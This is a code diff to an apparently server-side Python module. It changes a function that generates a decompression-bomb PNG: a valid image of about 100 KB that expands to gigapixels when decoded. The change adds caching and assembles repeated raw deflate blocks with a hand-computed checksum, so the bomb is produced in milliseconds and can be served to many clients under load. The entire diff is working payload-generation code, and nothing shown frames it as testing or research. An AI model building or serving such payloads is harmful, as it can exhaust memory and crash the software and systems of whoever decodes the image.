@@ -45,6 +45,7 @@ tell how many requests a client kept in flight and what the latencies allow at b
 from __future__ import annotations
 
 import asyncio
+import functools
 import random
 import socket
 import struct
@@ -71,19 +72,31 @@ class Resource:
     headers: dict[str, str] = field(default_factory=dict)
 
 
+@functools.lru_cache(maxsize=4)
 def decompression_bomb_png(width: int = 30_000, height: int = 30_000) -> bytes:
-    """A valid 1-bit PNG of ``width``×``height`` white pixels: ~100 KB on the wire, gigapixels decoded."""
+    """A valid 1-bit PNG of ``width``×``height`` white pixels: ~100 KB on the wire, gigapixels decoded.
+
+    Built in milliseconds, not the second zlib would take over the whole image (which held up every other
+    reply of a host under load): 256 rows are deflated once from a fresh state and the output repeated
+    (copies that refer to nothing before them concatenate into one valid stream), the Adler-32 computed
+    over the data."""
     def chunk(kind: bytes, data: bytes) -> bytes:
         return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
 
     row = b"\x00" + b"\xff" * ((width + 7) // 8)
-    compressor = zlib.compressobj(9)
     block = row * 256
-    parts = [compressor.compress(block) for _ in range(height // 256)]
-    parts.append(compressor.compress(row * (height % 256)))
-    parts.append(compressor.flush())
+    full, rest = divmod(height, 256)
+    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
+    repeated = raw.compress(block) + raw.flush(zlib.Z_FULL_FLUSH)  # byte-aligned, not final
+    last = zlib.compressobj(9, zlib.DEFLATED, -15)
+    ending = last.compress(row * rest) + last.flush(zlib.Z_FINISH)
+    checksum = 1
+    for _ in range(full):
+        checksum = zlib.adler32(block, checksum)
+    checksum = zlib.adler32(row * rest, checksum)
+    stream = b"\x78\xda" + repeated * full + ending + struct.pack(">I", checksum)
     header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
-    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"".join(parts))
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", stream)
             + chunk(b"IEND", b""))
 
 
